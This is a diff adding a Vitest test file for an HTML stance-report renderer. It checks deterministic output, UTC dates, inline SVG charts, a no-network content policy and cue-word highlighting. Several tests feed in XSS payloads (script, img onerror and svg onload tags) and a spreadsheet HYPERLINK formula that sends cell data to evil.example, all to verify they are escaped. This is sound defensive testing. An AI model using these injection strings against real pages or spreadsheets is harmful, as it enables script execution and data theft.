@@ -1,0 +1,96 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import { buildReport, renderHtmlReport } from '../../stages/report/index.ts';
+import { cueRanges, highlightCue } from '../../stages/report/evidence.ts';
+import { ANKARA_BACKS_US, FIDAN_US_INITIATIVE, HOSTILE, RECORDS, reportInput, runInfo } from './fixtures.ts';
+
+const render = (records = RECORDS, run = runInfo()) =>
+  renderHtmlReport(buildReport({ ...reportInput(run), records }), records);
+
+describe('report.html', () => {
+  const zone = process.env.TZ;
+  afterEach(() => {
+    if (zone === undefined) delete process.env.TZ;
+    else process.env.TZ = zone;
+  });
+
+  it('is byte-identical for the same input, whatever the run times, record order or what was drawn before', async () => {
+    const first = await render();
+    await render([HOSTILE]); // moves vega's process-wide gradient and clip counters
+    const second = await render([...RECORDS].reverse(), runInfo('2031-01-01T00:00:00.000Z', 99));
+    expect(second).toBe(first);
+  });
+
+  it('is byte-identical in every time zone (dates are drawn in UTC)', async () => {
+    process.env.TZ = 'Pacific/Honolulu';
+    const west = await render();
+    process.env.TZ = 'Asia/Tokyo';
+    const east = await render();
+    expect(east).toBe(west);
+    expect(west).toContain('2025-02-24');
+  });
+
+  it('escapes a <script> in a sentence: the only script on the page is its own search', async () => {
+    const html = await render();
+    expect(html.match(/<script/g)).toHaveLength(1);
+    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
+    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?q=&quot;&amp;A1,&quot;Russia <mark>condemns</mark> Ukraine&quot;)');
+    expect(html).toContain('not UTF-8 &lt;b&gt;bytes&lt;/b&gt;');
+  });
+
+  it('escapes hostile actor names in the charts as well as in the table', async () => {
+    const evil = { id: 'X', name: '<img src=x onerror=alert(1)>', country: null, role: null };
+    const html = await render([{ ...ANKARA_BACKS_US, source: evil, target: { ...evil, id: 'Y', name: '"><svg onload=alert(2)>' } }]);
+    expect(html).not.toMatch(/<img|<svg onload|onerror=alert\(1\)>/);
+    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
+  });
+
+  it('needs no network: no external URL in any src, href or CSS, and a policy that forbids fetching', async () => {
+    const html = await render();
+    expect(html).not.toMatch(/(src|href)=["']?(https?:)?\/\//i);
+    expect(html).not.toMatch(/@import|url\((?!#)/i);
+    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none';`);
+  });
+
+  it('draws the three charts as inline SVG, with per-chart ids', async () => {
+    const html = await render();
+    for (const id of ['chart-actors', 'chart-pairs', 'chart-timeline']) {
+      expect(html).toMatch(new RegExp(`<figure id="${id}"><svg [^>]*class="marks"`));
+    }
+    const ids = [...html.matchAll(/\sid="([^"]+)"/g)].map((m) => m[1]);
+    expect(new Set(ids).size).toBe(ids.length);
+    expect(html).toContain('id="chart-pairs-1"'); // the net score legend's gradient
+  });
+
+  it('leaves the timeline out when no document has a date, and says so when there is nothing to chart', async () => {
+    const undated = RECORDS.map((r) => ({ ...r, doc_date: null }));
+    expect(await render(undated)).not.toContain('id="timeline"');
+    const empty = await render([]);
+    expect(empty).toContain('<p class="empty">No stance records.</p>');
+    expect(empty).toContain('<output id="evidence-count" for="evidence-search">0 records</output>');
+  });
+
+  it('does not show run times', async () => {
+    const html = await render(RECORDS, runInfo('2025-03-04T09:00:00.000Z'));
+    expect(html).not.toContain('2025-03-04');
+  });
+});
+
+describe('cue highlighting', () => {
+  it('marks the cue in its sentence, ignoring case', () => {
+    expect(highlightCue('Ankara Backs a United States initiative', 'backs')).toBe('Ankara <mark>Backs</mark> a United States initiative');
+  });
+
+  it('marks a multi-word cue whole', () => {
+    expect(highlightCue(FIDAN_US_INITIATIVE.sentence, FIDAN_US_INITIATIVE.cue)).toContain('&quot;We <mark>attach great importance</mark> to the new U.S. initiative');
+  });
+
+  it('marks a lemma cue on the inflected word, and each word of a split cue', () => {
+    expect(highlightCue('Ankara backed the plan.', 'back')).toBe('Ankara <mark>backed</mark> the plan.');
+    expect(highlightCue('Türkiye is ready to host the talks.', 'ready host')).toBe('Türkiye is <mark>ready</mark> to <mark>host</mark> the talks.');
+  });
+
+  it('marks nothing when the cue is not in the sentence, and keeps offsets right after İ', () => {
+    expect(highlightCue('Nothing <here>', 'condemn')).toBe('Nothing &lt;here&gt;');
+    expect(cueRanges('İİ condemns', 'condemns')).toEqual([[3, 11]]);
+  });
+});
